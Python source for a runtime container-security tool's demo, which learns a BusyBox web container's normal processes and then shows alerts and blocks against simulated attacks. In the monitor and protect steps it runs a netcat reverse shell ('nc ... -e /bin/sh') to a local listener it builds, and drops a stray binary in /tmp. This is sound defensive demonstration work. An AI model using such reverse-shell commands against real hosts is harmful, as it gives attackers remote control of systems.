"""`procwarden demo`: from nothing to a learned, monitored, then protected web container.

Brings up the local stack and every role (stream worker, ClickHouse sink, SIEM forwarder with a
local rsyslog, collector), starts a BusyBox "web" container under runc with Kubernetes-style
annotations, and walks the story: Discover learns, Monitor alerts, Protect blocks (before exec,
by killing after exec, and a reverse shell), then what the SOC sees in ClickHouse and what the
SIEM received. Every step checks its outcome and says where to look when it is not there.

What the demo starts (the stack's servers and the roles that were not running before it, and the
web container a failed step leaves up to look into) is recorded in `var/demo-started.json`;
`procwarden demo --down` stops exactly that, and runs nothing.
"""

from __future__ import annotations

import dataclasses
import json
import os
import shutil
import socket
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Protocol

from procwarden.policy_cli import ApiCallError, call
from procwarden.roles import ROOT, Roles
from procwarden.stack import Stack
from procwarden.stack.processes import StackError
from procwarden.testbed.containers import (
    APP_LOOP,
    Container,
    ContainerError,
    remove_leftovers,
    run_container,
)
from schemas.connections import ClickHouseConnection
from sinks.clickhouse.migrations import connect
from sinks.clickhouse.queries import QUERIES

__all__ = ["DemoError", "LocalParts", "Started", "run_demo", "tear_down"]

GROUP = "nv.web.demo"
SERVICE = "web.demo"
WEB_PORT = 18080
NORMAL = ("sleep 1", f"httpd -f -p 127.0.0.1:{WEB_PORT} -h /var/www &", "sleep 1")
STARTED_FILE = "demo-started.json"  # in the roles' var/


class DemoError(RuntimeError):
    """A step did not have the outcome it should; the message says what and where to look."""


@dataclass
class Demo:
    say: Callable[[str], None]
    pace: float = 1.0
    roles: Roles = field(default_factory=Roles)
    web: Container | None = None
    results: dict[str, Any] = field(default_factory=dict)

    # -- helpers --------------------------------------------------------------------------------

    def step(self, title: str) -> None:
        time.sleep(self.pace)
        self.say("")
        self.say(f"== {title}")

    def api(self, method: str, path: str, body: Any = None) -> Any:
        try:
            return call(method, path, body)
        except ApiCallError as exc:
            raise DemoError(f"the policy API said {exc}\n{self._look('streams')}") from None

    def _look(self, *names: str) -> str:
        parts = [f"-- {n} log ({self.roles.logs()[n]}):\n{self.roles.log_tail(n)}"
                 for n in names]
        return "\n".join(parts) + "\n(`procwarden status` shows what runs)"

    def wait(self, what: str, check: Callable[[], Any], timeout: float = 45.0,
             look: tuple[str, ...] = ("collector", "streams")) -> Any:
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            found = check()
            if found:
                return found
            time.sleep(0.25)
        raise DemoError(f"{what}: not there after {timeout:.0f} s\n{self._look(*look)}")

    def clickhouse(self, sql: str, params: dict[str, Any] | None = None) -> list[Any]:
        conn = ClickHouseConnection.from_env()
        client = connect(conn)
        try:
            rows: list[Any] = client.execute(sql.replace("{db}", conn.database), params or {})
            return rows
        finally:
            client.disconnect()

    def app(self, line: str) -> tuple[int, str]:
        assert self.web is not None
        self.say(f"   web$ {line}")
        rc, out = self.web.app(line, timeout=60)
        for text in out.strip().splitlines()[:5]:
            self.say(f"        {text}")
        return rc, out

    def set_mode(self, mode: str) -> None:
        self.api("PATCH", "/v1/service/config",
                 {"config": {"services": [SERVICE], "profile_mode": mode}})
        self.wait(f"{GROUP} in {mode}", lambda: self.profile()["mode"] == mode)
        self.say(f"   {GROUP} is now in {mode}")

    def profile(self) -> dict[str, Any]:
        return self.api("GET", f"/v1/process_profile/{GROUP}")["process_profile"]  # type: ignore[no-any-return]

    def _learned(self, wanted: set[str]) -> dict[str, Any] | None:
        profile = self.profile()
        names = {r["name"] for r in profile["process_list"] if r["cfg_type"] == "learned"}
        return profile if wanted <= names else None

    def drop_binary(self, name: str) -> str:
        """An attacker's upload: a new executable written into the container's /tmp."""
        assert self.web is not None
        target = self.web.rootfs / "tmp" / name
        shutil.copy2(self.web.rootfs / "bin" / "busybox", target)
        target.chmod(0o755)
        return f"/tmp/{name}"

    def incidents_since(self, since: float) -> list[Any]:
        return self.clickhouse(
            "SELECT name, action, proc_name, proc_path, message FROM {db}.security_events FINAL "
            "WHERE group_name = %(g)s AND ts >= toDateTime(%(t)s) ORDER BY ts",
            {"g": GROUP, "t": int(since)})

    # -- the story ------------------------------------------------------------------------------

    def steps(self) -> list[Callable[[], None]]:
        return [self.setup, self.discover, self.monitor, self.protect, self.soc]

    def web_saved(self) -> dict[str, Any] | None:
        """The web container as `--down` can stop it from another process."""
        return None if self.web is None else json.loads(json.dumps(
            dataclasses.asdict(self.web), default=str))

    def stop_web(self) -> None:
        if self.web is not None:
            self.web.stop()
            self.web = None

    def setup(self) -> None:
        self.step("Setting up: Kafka (KRaft) and ClickHouse, then procwarden's roles")
        stack = Stack()
        stack.up(lambda m: self.say(f"   [stack] {m}"))
        self.roles.up(lambda m: self.say(f"   [roles] {m}"))
        os.environ["PROCWARDEN_API_TOKEN"] = self.roles.api_token
        os.environ.setdefault("PROCWARDEN_API_URL", f"http://127.0.0.1:{self.roles.api_port}")
        existing = self._existing_profile()
        if existing is not None:  # a previous demo left its group: start from a clean one
            self.api("PATCH", "/v1/service/config", {"config": {
                "services": [SERVICE], "profile_mode": "Discover",
                "baseline_profile": "zero-drift"}})
            learned = [{"name": r["name"], "path": r["path"]}
                       for r in existing["process_list"] if r["cfg_type"] == "learned"]
            if learned:
                self.api("PATCH", f"/v1/process_profile/{GROUP}", {"process_profile_config": {
                    "process_delete_list": learned}})
            self.say(f"   reset {GROUP} from an earlier run to Discover with no learned rules")

    def _existing_profile(self) -> dict[str, Any] | None:
        try:
            return call("GET", f"/v1/process_profile/{GROUP}")["process_profile"]  # type: ignore[no-any-return]
        except ApiCallError as exc:
            if str(exc).startswith("404"):
                return None
            raise DemoError(f"the policy API said {exc}\n{self._look('streams')}") from None

    def discover(self) -> None:
        self.step("1. Discover: the web container runs its normal processes; procwarden learns")
        for gone in remove_leftovers(ROOT / "var" / "testbed"):
            self.say(f"   removed {gone}, a container an interrupted run left behind")
        self.web = run_container(ROOT / "var" / "testbed", "web", namespace="demo",
                                 labels={"app": "web"}, command=APP_LOOP)
        self.say(f"   started container {self.web.id} (namespace demo, pod {self.web.name})")
        for line in NORMAL:
            self.app(line)
        wanted = {"sh", "sleep", "httpd"}
        profile = self.wait(f"learned rules for {', '.join(sorted(wanted))} in {GROUP}",
                            lambda: self._learned(wanted))
        self.say(f"   learned profile of {GROUP} (mode {profile['mode']}, baseline "
                 f"{profile['baseline']}):")
        for rule in profile["process_list"]:
            self.say(f"     {rule['action']:6} {rule['name']:8} {rule['path']:14} "
                     f"{rule['cfg_type']}")
        self.results["learned"] = sorted({r["name"] for r in profile["process_list"]})

    def monitor(self) -> None:
        self.step("2. Monitor: unexpected processes raise alerts (nothing is stopped)")
        since = time.time() - 1
        self.set_mode("Monitor")
        dropped = self.drop_binary("sleep")
        self.say(f"   an attacker uploads {dropped} (a copy of busybox) and runs it:")
        self.app(f"{dropped} 2")
        self.say("   ...and probes the web server with netcat:")
        self.app(f"sleep 2 | nc 127.0.0.1 {WEB_PORT}; echo nc exited $?")
        self.say("   ...and opens a reverse shell to 127.0.0.1 (stdin/stdout on one socket):")
        with self.reverse_shell_listener() as shell:
            self.app(f"nc 127.0.0.1 {shell.port} -e /bin/sh &")
            shell.connected.wait(15)
            self.wait("the reverse-shell alert in ClickHouse", lambda: [
                i for i in self.incidents_since(since) if i[0].endswith("Tunnel.Detected")],
                look=("collector", "streams", "sink-clickhouse"))
        incidents = self.wait("three alerts in ClickHouse",
                              lambda: _at_least(3, self.incidents_since(since)),
                              look=("collector", "streams", "sink-clickhouse"))
        self.say("   alerts as they landed in ClickHouse (security_events):")
        for name, action, pname, path, message in incidents:
            self.say(f"     {name:34} {action:8} {pname:6} {path:12} {message}")
        self.results["monitor_incidents"] = [(i[0], i[1], i[3]) for i in incidents]

    def protect(self) -> None:
        self.step("3. Protect: the same attempts are blocked")
        assert self.web is not None
        since = time.time() - 1
        self.set_mode("Protect")
        web_id = self.web.id
        self.wait("the collector holding the container's execs", lambda: f"holding execs of "
                  f"{web_id}" in Path(self.roles.logs()["collector"]).read_text(errors="replace"))
        dropped = self.drop_binary("top")
        self.say(f"   {dropped} is uploaded and run: denied before it runs (fanotify):")
        _, out = self.app(f"{dropped} -n 1; echo exit $?")
        self.say("   netcat is killed right after exec, while allowed processes run on:")
        _, nc_out = self.app(f"sleep 3 & sleep 5 | nc 127.0.0.1 {WEB_PORT}; "
                             "echo nc exited $?; wait; echo sleep exited $?")
        self.say("   a reverse shell is caught and killed:")
        with self.reverse_shell_listener() as shell:
            self.app(f"nc 127.0.0.1 {shell.port} -e /bin/sh &")
            shell.connected.wait(15)
            closed = shell.closed.wait(15)
        self.say(f"   the attacker's connection was {'closed' if closed else 'NOT closed'} "
                 f"{shell.lifetime():.1f} s after it opened")
        if not closed:
            raise DemoError(f"the reverse shell survived in Protect\n{self._look('collector')}")
        blocks = self.wait("blocks in ClickHouse", lambda: _at_least(3, self.clickhouse(
            "SELECT event_kind, name, path, reason FROM {db}.events FINAL WHERE group_name = "
            "%(g)s AND verdict = 'block' AND ts >= toDateTime(%(t)s) ORDER BY ts",
            {"g": GROUP, "t": int(since)})), look=("collector", "streams", "sink-clickhouse"))
        self.say("   blocks recorded in ClickHouse (events):")
        for kind, name, path, reason in blocks:
            self.say(f"     {kind:10} {name:6} {path:14} {reason}")
        self.results.update(denied_output=out, nc_output=nc_out, protect_blocks=blocks,
                            reverse_shell_closed=closed)
        if "not permitted" not in out.lower():
            raise DemoError(f"{dropped} was not denied before exec: {out!r}\n"
                            f"{self._look('collector')}")

    def soc(self) -> None:
        self.step("4. What the SOC sees (ClickHouse) and what the SIEM received (syslog)")
        for title, query in (("top blocked", "top_blocked"),
                             ("violations per group per hour", "violations_per_group_per_hour")):
            rows = [r for r in self.clickhouse(QUERIES[query]) if GROUP in r]
            self.say(f"   {title}:")
            for row in rows[:8]:
                self.say("     " + "  ".join(str(c) for c in row))
        log = self.roles.siem_log
        if "SIEM_SYSLOG_URL" in os.environ and not log.exists():
            self.say("   incidents went to your SIEM at $SIEM_SYSLOG_URL")
            return
        lines = self.wait("syslog lines at the SIEM", lambda: [
            line for line in log.read_text(errors="replace").splitlines() if GROUP in line]
            if log.exists() else None, look=("siem",))
        self.say(f"   the SIEM stand-in received {len(lines)} syslog line(s) for {GROUP} "
                 f"({log}); the latest:")
        self.say(f"     {lines[-1][:300]}")
        self.results["syslog_lines"] = len(lines)

    def explore(self) -> None:
        token_file = self.roles.var / "api-token"
        self.step("Everything keeps running. To explore:")
        for line in (
            f"http://127.0.0.1:{self.roles.api_port}/console   # the console (token: {token_file})",
            f"procwarden policy get {GROUP}        # (PROCWARDEN_API_TOKEN=$(cat {token_file}))",
            "procwarden status                       # roles, lag, recent decisions",
            "curl 'http://127.0.0.1:8123/?query=SELECT+name,action,proc_path+FROM+"
            "procwarden.security_events+ORDER+BY+ts+DESC+LIMIT+10'",
            "docs/soc.md                             # the tables and the SOC's queries",
            "procwarden demo --down                  # stop what the demo started (data stays)",
        ):
            self.say(f"   {line}")

    @contextmanager
    def reverse_shell_listener(self) -> Iterator[_Listener]:
        listener = _Listener()
        try:
            yield listener
        finally:
            listener.close()


class _Listener:
    """The attacker's end of a reverse shell: accepts one connection, notices when it closes."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(1)
        self.sock.settimeout(20)
        self.port = self.sock.getsockname()[1]
        self.connected = threading.Event()
        self.closed = threading.Event()
        self.opened_at = 0.0
        self.closed_at = 0.0
        self._conn: socket.socket | None = None
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        try:
            conn, _ = self.sock.accept()
        except OSError:
            return
        self._conn = conn
        self.opened_at = time.monotonic()
        self.connected.set()
        conn.settimeout(30)
        try:
            while conn.recv(4096):
                pass
        except OSError:
            pass
        self.closed_at = time.monotonic()
        self.closed.set()

    def lifetime(self) -> float:
        return (self.closed_at or time.monotonic()) - self.opened_at

    def close(self) -> None:
        if self._conn is not None:
            with suppress(OSError):
                self._conn.sendall(b"exit\n")
            self._conn.close()
        self.sock.close()


def _at_least(n: int, rows: list[Any]) -> list[Any] | None:
    return rows if len(rows) >= n else None


@dataclass
class Started:
    """What demos started and left running (`var/demo-started.json`): all that `procwarden demo
    --down` stops. A server or role that ran before the demo is never in it."""

    servers: list[str] = field(default_factory=list)  # the stack's: kafka, clickhouse
    roles: list[str] = field(default_factory=list)
    container: dict[str, Any] | None = None  # the web container a failed step left up

    @classmethod
    def load(cls, path: Path) -> Started:
        try:
            data = json.loads(path.read_text())
            return cls(servers=[str(n) for n in data["servers"]],
                       roles=[str(n) for n in data["roles"]], container=data["container"])
        except FileNotFoundError:
            return cls()
        except (OSError, ValueError, KeyError, TypeError) as exc:
            raise DemoError(f"{path} is unreadable ({exc!r}): `procwarden down` and "
                            "`procwarden stack down` stop the roles and the stack") from None

    def save(self, path: Path) -> None:
        if not (self.servers or self.roles or self.container):
            path.unlink(missing_ok=True)
            return
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(json.dumps(dataclasses.asdict(self), indent=2) + "\n")

    def add(self, servers: set[str], roles: set[str]) -> None:
        self.servers = sorted(set(self.servers) | servers)
        self.roles = sorted(set(self.roles) | roles)

    def describe(self) -> str:
        parts = [", ".join(self.servers) if self.servers else "",
                 f"roles {', '.join(self.roles)}" if self.roles else "",
                 f"the web container {self.container['id']}" if self.container else ""]
        return "; ".join(p for p in parts if p) or "nothing"


class Story(Protocol):
    """The demo's steps, as `run_demo` walks them (`Demo`; a fake in the unit tests)."""

    results: dict[str, Any]

    def steps(self) -> list[Callable[[], None]]: ...
    def web_saved(self) -> dict[str, Any] | None: ...
    def stop_web(self) -> None: ...
    def explore(self) -> None: ...


class Parts(Protocol):
    """What the demo starts, and how each is stopped (`LocalParts`; a fake in the unit tests)."""

    def running(self) -> tuple[set[str], set[str]]:
        """(the stack's servers, the roles) running now."""
    def stop_servers(self, names: set[str], say: Callable[[str], None]) -> None: ...
    def stop_roles(self, names: set[str], say: Callable[[str], None]) -> None: ...
    def stop_container(self, saved: dict[str, Any]) -> None: ...


class LocalParts:
    """This node's stack, roles and test containers."""

    def __init__(self, roles: Roles | None = None, stack: Stack | None = None) -> None:
        self.roles = roles or Roles()
        self.stack = stack or Stack()

    def _servers(self) -> dict[str, Any]:
        return {"kafka": self.stack.kafka, "clickhouse": self.stack.clickhouse}

    def running(self) -> tuple[set[str], set[str]]:
        servers = {name for name, server in self._servers().items()
                   if server.process.running()}
        return servers, {r.name for r in self.roles.roles if self.roles.process(r).running()}

    def stop_servers(self, names: set[str], say: Callable[[str], None]) -> None:
        for name, server in self._servers().items():
            if name in names:
                say(f"{name}: stopped" if server.stop() else f"{name}: was not running")

    def stop_roles(self, names: set[str], say: Callable[[str], None]) -> None:
        # the collector first, as `procwarden down`: it lets every held exec go when it stops
        for role in reversed(self.roles.roles):
            if role.name in names:
                say(f"{role.name}: stopped" if self.roles.process(role).stop()
                    else f"{role.name}: was not running")

    def stop_container(self, saved: dict[str, Any]) -> None:
        Container(id=str(saved["id"]), name=str(saved["name"]), bundle=Path(saved["bundle"]),
                  rootfs=Path(saved["rootfs"]), upperdir=Path(saved["upperdir"]),
                  lowerdir=Path(saved["lowerdir"]), init_pid=int(saved["init_pid"])).stop()


def _left_up(started: Started, record: Path, roles_log: Path) -> str:
    lines = [f"Left running to look into (recorded in {record}): {started.describe()}.",
             "  procwarden status         # what runs, and each role's health",
             f"  {roles_log}/<role>.log    # each role's log"]
    if started.container:
        lines.append(f"  runc exec {started.container['id']} sh    # inside the web container")
    lines.append("  procwarden demo --down    # then stop what the demo started")
    return "\n".join(lines)


def run_demo(say: Callable[[str], None] = print, *, pace: float = 1.0,
             story: Story | None = None, parts: Parts | None = None,
             record: Path | None = None) -> dict[str, Any]:
    """The whole story; returns what each step observed (the end-to-end test reads it). What it
    started is recorded for `tear_down`; when a step fails everything is left up, and the
    DemoError says how to look into it and how to tear it down."""
    demo = Demo(say, pace) if story is None else None
    story = story or demo
    assert story is not None
    roles = demo.roles if demo is not None else Roles()
    parts = parts or LocalParts(roles)
    record = record or roles.var / STARTED_FILE
    started = Started.load(record)
    if started.container:  # a failed demo's: this one starts its own
        with suppress(ContainerError):
            parts.stop_container(started.container)
        started.container = None
    servers_before, roles_before = parts.running()
    try:
        for step in story.steps():
            step()
    except BaseException as exc:
        servers_now, roles_now = parts.running()
        started.add(servers_now - servers_before, roles_now - roles_before)
        started.container = story.web_saved()
        started.save(record)
        guidance = _left_up(started, record, roles.home)
        if isinstance(exc, DemoError | StackError | ContainerError):
            raise DemoError(f"{exc}\n\n{guidance}") from None
        say(guidance)
        raise
    story.stop_web()
    servers_now, roles_now = parts.running()
    started.add(servers_now - servers_before, roles_now - roles_before)
    started.save(record)
    story.explore()
    return story.results


def tear_down(say: Callable[[str], None] = print, *, parts: Parts | None = None,
              record: Path | None = None) -> Started:
    """`procwarden demo --down`: stop what demos started (and nothing that ran before them);
    the demo itself is not run. Returns what was stopped."""
    record = record or Roles().var / STARTED_FILE
    started = Started.load(record)
    if not (started.servers or started.roles or started.container):
        say(f"Nothing the demo started is running ({record} lists nothing): "
            "`procwarden down` and `procwarden stack down` stop the roles and the stack")
        return started
    parts = parts or LocalParts()
    say(f"Tearing down what the demo started: {started.describe()}")
    if started.container:
        with suppress(ContainerError):
            parts.stop_container(started.container)
        say(f"   web container {started.container['id']}: stopped")
    parts.stop_roles(set(started.roles), lambda m: say(f"   [roles] {m}"))
    parts.stop_servers(set(started.servers), lambda m: say(f"   [stack] {m}"))
    record.unlink(missing_ok=True)
    return started
